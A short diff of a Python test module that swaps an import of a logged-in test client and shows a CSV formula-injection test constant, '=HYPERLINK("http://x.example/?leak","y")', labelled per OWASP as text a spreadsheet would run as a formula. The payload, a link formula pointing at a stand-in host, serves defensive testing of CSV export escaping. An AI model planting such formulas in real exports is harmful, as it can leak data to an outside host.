@@ -15,7 +15,7 @@ from openpyxl import load_workbook
 from opiekun.extensions import db
 from opiekun.models import Company
 from opiekun.spreadsheets import csv_field
-from tests.support.admin_browser import logged_in
+from opiekun.testing.clients import logged_in
 
 FORMULA = '=HYPERLINK("http://x.example/?leak","y")'
 #: Texts a spreadsheet would run as formulas, if written raw into a CSV field (OWASP).
